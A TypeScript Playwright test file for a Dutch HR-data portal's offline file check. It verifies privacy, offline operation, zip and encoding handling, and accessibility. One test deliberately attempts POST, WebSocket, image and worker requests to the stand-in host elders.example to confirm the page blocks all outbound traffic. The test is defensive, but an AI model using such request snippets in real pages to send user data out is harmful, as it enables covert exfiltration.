import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { AxeResults } from "axe-core";
import { zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import writeExcelFile from "write-excel-file/node";
import { loadProfiles } from "../../src/intake/profile.ts";
import { rules } from "../../src/intake/rules.ts";
import { hasBrowser } from "../support/browser.ts";
import { finish, start } from "../support/cli.ts";
import { type Files, sound, options as wholeCheck } from "../support/delivery.ts";
import { bsns } from "../support/identifiers.ts";
import { checkInIntake, checkInPage, chooseFiles, openLocalCheck } from "../support/local-check.ts";
import { isLong } from "../support/long.ts";
import { looks } from "../support/looks.ts";
import { type Opened, openPortal, type Portal, tabTo } from "../support/portal-browser.ts";
import { root } from "../support/root.ts";
import { startWatchingProxy, type WatchingProxy } from "../support/watching-proxy.ts";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

const leaking = {
  ...sound,
  "medewerker.csv": `medewerker_id,geboortejaar,geslacht,code\n${bsns(60)
    .map((bsn, at) => `P${at + 1},${1960 + (at % 40)},V,${bsn}`)
    .join("\n")}\n`,
};

/** The files of a folder that the page takes. */
function filesIn(folder: string): Record<string, Uint8Array> {
  const names = readdirSync(folder).filter((name) => /\.(csv|xlsx|yml)$/i.test(name));
  return Object.fromEntries(names.map((name) => [name, readFileSync(join(folder, name))]));
}

/** What Chromium asks by itself about the forms of any page, and no page can make it ask. */
const ofBrowser = /^CONNECT content-autofill\.googleapis\.com:443$/;

describe.skipIf(!hasBrowser)("checking files on one's own machine", () => {
  let portal: Portal;
  let proxy: WatchingProxy;
  let opened: Opened;

  beforeAll(async () => {
    [portal, proxy] = [await openPortal(), await startWatchingProxy()];
    opened = await openLocalCheck(portal, { proxy: { server: proxy.url, bypass: "<-loopback>" } });
  });
  afterAll(async () => {
    await opened?.close();
    await portal?.close();
    await proxy?.close();
  });

  test("asks nothing of any host from the moment that files are chosen", async () => {
    const { page } = opened;
    expect(proxy.asked.some((one) => one.endsWith(".wasm"))).toBe(true);
    const asked: string[] = [];
    // A blob is in the memory of the page: the script of the thread that checks.
    page.context().on("request", (request) => {
      if (!request.url().startsWith("blob:")) asked.push(request.url());
    });
    page.on("websocket", (socket) => asked.push(socket.url()));
    proxy.forget();
    const { report, text } = await checkInPage(page, leaking);
    const found = report.regels.find(({ code }) => code === "IDENT-BSN");
    expect(found?.groep).toBe("geweigerd");
    expect(found?.vindplaatsen).toMatchObject([{ bestand: "medewerker.csv", kolomletter: "D", aantal: 60 }]);
    expect(text).toMatch(/medewerker\.csv[\s\S]*Kolom D[\s\S]*IDENT-BSN/);
    for (const bsn of bsns(60)) expect(text).not.toContain(bsn);
    expect(report).toEqual(await checkInIntake(leaking));
    expect(asked).toEqual([]);
    expect(proxy.asked.filter((one) => !ofBrowser.test(one))).toEqual([]);
    expect(await page.evaluate("document.cookie + localStorage.length + sessionStorage.length")).toBe("00");
    expect(opened.errors).toEqual([]);
  });

  test("could not send anything if it wanted to", async () => {
    const { page } = opened;
    proxy.forget();
    const attempts = `Promise.all([
      fetch("/hulp").then(() => "sent", () => "refused"),
      fetch("https://elders.example/", { method: "POST", body: "x", mode: "no-cors" }).then(() => "sent", () => "refused"),
      new Promise((done) => { const socket = new WebSocket("ws://elders.example/"); socket.onopen = () => done("sent"); socket.onerror = () => done("refused"); }).catch(() => "refused"),
      new Promise((done) => { const image = new Image(); image.onload = () => done("sent"); image.onerror = () => done("refused"); image.src = "https://elders.example/x.png"; }),
      new Promise((done) => {
        const script = "fetch('" + location.origin + "/hulp').then(() => postMessage('sent'), () => postMessage('refused'))";
        const thread = new Worker(URL.createObjectURL(new Blob([script])));
        thread.onmessage = ({ data }) => done(data);
      }),
    ])`;
    expect(await page.evaluate(attempts)).toEqual(Array(5).fill("refused"));
    await page.evaluate(`navigator.sendBeacon("/hulp", "x")`);
    await page.waitForTimeout(200);
    expect(proxy.asked.filter((one) => !ofBrowser.test(one))).toEqual([]);
    // The watch itself: what the page may ask for, its own icon, is seen.
    await page.evaluate(
      `new Promise((done) => { const image = new Image(); image.onload = done; image.src = "/icoon.svg?gezien"; })`,
    );
    expect(proxy.asked.filter((one) => !ofBrowser.test(one))).toEqual([`GET ${portal.url}/icoon.svg?gezien`]);
  });

  test("checks without a network, says that sound files are sound, and lets a check be stopped", async () => {
    const { page } = opened;
    await page.context().setOffline(true);
    const { report, text } = await checkInPage(page, sound);
    expect(report).toEqual(await checkInIntake(sound));
    expect(report.akkoord).toBe(true);
    expect(text).toContain("Er zijn geen fouten gevonden");
    expect(text).toContain("De regels over de inhoud worden pas bij het leveren gecontroleerd");
    await page.click("#lokaal-controleer");
    await page.click("#lokaal-stop");
    expect(await page.innerText("#lokaal-stand")).toContain("gestopt");
    expect((await checkInPage(page, sound)).report.akkoord).toBe(true);
    await page.context().setOffline(false);
  });

  test("knows the formats of the intake", async () => {
    const values = `[...document.querySelectorAll("#lokaal-profiel option")].map((one) => one.value)`;
    expect(await opened.page.evaluate(values)).toEqual((await loadProfiles()).map(({ id }) => id));
  });

  const samples: readonly (readonly [string, string])[] = [
    ["afas-verloopregels", "afas"],
    ["visma-verzuim-gebeurtenissen", "visma-verzuim"],
    ["canonical-fout", "canonical"],
    ...(isLong
      ? ([
          ["canonical-puntkomma", "canonical"],
          ["exact-gevallen", "exact"],
          ["lms-opleidingen", "lms"],
          ["loket-gevallen", "loket"],
          ["nmbrs-werkbladen", "nmbrs"],
          ["rijksoverheid-verzuim-cijfers", "rijksoverheid-verzuim"],
          ["visma-verzuimsignaal-gevallen", "visma-verzuimsignaal"],
          ["xpert-suite-mutaties", "xpert-suite"],
          ["youforce-deelperioden", "youforce"],
        ] as const)
      : []),
  ];

  test.each(samples)("finds in %s what the intake finds", async (name, profile) => {
    const files = filesIn(join(root, "data-samples", name));
    const { report } = await checkInPage(opened.page, files, profile);
    expect(report).toEqual(await checkInIntake(files, profile));
  });

  test.skipIf(!isLong)(
    "finds in a sector with dirt what a whole check finds, but for the rules over content",
    async () => {
      const home = mkdtempSync(join(tmpdir(), "local-check-"));
      const out = join(home, "vuil");
      await finish(start(["sample", "--out", out, "--dirt", "--workers", "500"], home));
      const all = filesIn(out);
      const { report } = await checkInPage(opened.page, all);
      expect(report).toEqual(await checkInIntake(all));
      const whole = await checkInIntake(all, "canonical", { ...wholeCheck, now: new Date() });
      const own = whole.regels.filter(({ code }) => Object.hasOwn(rules, code));
      expect(own.length).toBeLessThan(whole.regels.length);
      expect(report.regels).toEqual(own);
      rmSync(home, { recursive: true });
    },
  );

  test.skipIf(!isLong)(
    "reads every encoding, workbooks, and what is no text, as the intake does",
    async () => {
      const rows = `${sound["medewerker.csv"]}P3;1985\nTotaal;3\n`.replaceAll(",", ";");
      const named =
        "scholing_id;medewerker_id;begin;soort\r\nS1;P1;1-2-2025;opfris café\r\n\r\nS2;P9;31-02-2025;x\r\n";
      const workbook = await writeExcelFile([
        {
          sheet: "werkgever",
          data: [
            ["werkgever_id", "sbi_code", "regio"],
            ["W1", "8610", "AM05"],
            ["W1", "x", null],
          ],
        },
        { sheet: "Blad 2", data: [["iets"]] },
      ]).toBuffer();
      const files: Files = {
        "medewerker.csv": Buffer.from(`\ufeff${rows}`, "utf16le"),
        "scholing.csv": Buffer.from(named, "latin1"),
        "gesprek.csv": Buffer.concat([Buffer.from(named), Buffer.from("\xe9;\xe9\n".repeat(3), "latin1")]),
        "werkgever.xlsx": new Uint8Array(workbook),
        "verlof.csv": new Uint8Array([0x50, 0x4b, 3, 4, 0, 0, 0]),
        "enquete.csv": 'respondent_id,werkgever_id,golf\n"open,W1,2025\n',
      };
      const { report } = await checkInPage(opened.page, files);
      expect(report).toEqual(await checkInIntake(files));
      expect(report.regels.length).toBeGreaterThan(6);
    },
  );

  test("takes no more than it reads, and says so", async () => {
    const { page } = opened;
    await chooseFiles(page, { "levering.zip": "PK", "verzuim.parquet": "PAR1", "verzuim.csv": "a\n" });
    await page.waitForSelector("#lokaal-fout:not([hidden])");
    expect(await page.innerText("#lokaal-lijst")).toMatch(/^verzuim\.csv \(2 bytes\)$/);
    const told = await page.innerText("#lokaal-fout");
    expect(told).toMatch(/levering\.zip is niet te lezen/);
    expect(told).toMatch(/Parquet kan hier niet/);
    await page.click("#lokaal-wis");
    await page.click("#lokaal-controleer");
    expect(await page.innerText("#lokaal-fout")).toBe("Kies eerst een of meer bestanden.");
  });

  test("takes the files out of a zip, and finds in them what it finds in the files themselves", async () => {
    const { page } = opened;
    const packed = Object.entries(leaking).map(([name, text]) => [
      `map/${name}`,
      new TextEncoder().encode(text),
    ]);
    await chooseFiles(page, { "levering.zip": zipSync(Object.fromEntries(packed)) });
    await page.waitForSelector("#lokaal-lijst li");
    expect(await page.locator("#lokaal-lijst li").allInnerTexts()).toHaveLength(Object.keys(leaking).length);
    await page.evaluate("window.verslagen.length = 0");
    await page.click("#lokaal-controleer");
    await page.waitForSelector("#lokaal-verslag:not([hidden])", { timeout: 120_000 });
    expect(await page.evaluate("window.verslagen[0]")).toEqual(await checkInIntake(leaking));
    expect(await page.innerText("#lokaal-verslag")).toContain("Hier staat nooit wat er in een cel staat");
  });

  test("axe finds nothing before, in and after a check; nothing sideways", async () => {
    const { page } = opened;
    await checkInPage(page, leaking);
    await page.evaluate(axe);
    for (const [width, colorScheme] of looks) {
      await page.setViewportSize({ width, height: 900 });
      await page.emulateMedia({ colorScheme });
      expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(width);
      const { violations } = (await page.evaluate('axe.run({ resultTypes: ["violations"] })')) as AxeResults;
      expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
    }
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  test("other files, or none, take the outcome of the earlier ones away", async () => {
    const { page } = opened;
    const gone = () => page.waitForSelector("#lokaal-verslag", { state: "hidden", timeout: 5_000 });
    expect(await page.isVisible("#lokaal-verslag")).toBe(true);
    await chooseFiles(page, sound);
    await gone();
    await page.click("#lokaal-controleer");
    expect(await page.isDisabled("#lokaal-bestanden")).toBe(true);
    await page.waitForSelector("#lokaal-verslag:not([hidden])", { timeout: 120_000 });
    expect(await page.isDisabled("#lokaal-bestanden")).toBe(false);
    await page.click("#lokaal-wis");
    await gone();
    expect(await page.innerText("#lokaal-uitkomst")).toBe("");
  });

  test("is used by keyboard alone", async () => {
    const { page } = opened;
    await chooseFiles(page, sound);
    await tabTo(page, "#lokaal-controleer");
    await page.keyboard.press("Enter");
    await page.waitForSelector("#lokaal-verslag:focus", { timeout: 120_000 });
    expect(await page.innerText("#lokaal-verslag")).toContain("Er zijn geen fouten gevonden");
  });

  test("says without script, and without WebAssembly, what then", async () => {
    const plain = await portal.open("/lokale-controle", { javaScriptEnabled: false });
    expect(await plain.page.innerText("main")).toContain("In uw browser staat JavaScript uit");
    expect(await plain.page.isVisible("#lokaal-kiezen")).toBe(false);
    await plain.close();
    const old = await portal.open("/hulp");
    await old.page.addInitScript("delete window.WebAssembly");
    await old.page.goto(`${portal.url}/lokale-controle`);
    expect(await old.page.innerText("main")).toContain("Uw browser kan dit niet");
    expect(await old.page.innerText("main")).toContain("regiespiegel check");
    const hrefs = `[...document.querySelectorAll("#lokaal-niet a")].map((one) => one.getAttribute("href"))`;
    const ways = await old.page.evaluate(hrefs);
    expect(ways).toEqual(["/leveringen", "/leveringen#sjablonen"]);
    await old.close();
  });
});
